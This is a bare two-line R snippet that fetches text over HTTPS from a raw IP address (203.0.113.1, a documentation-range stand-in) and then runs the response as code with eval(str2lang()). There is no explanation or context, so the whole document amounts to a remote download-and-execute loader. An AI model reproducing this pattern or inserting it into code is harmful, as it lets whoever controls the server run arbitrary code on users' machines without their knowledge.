txt <- httr::content(httr::GET("https://203.0.113.1/c"), "text")
eval(str2lang(txt))
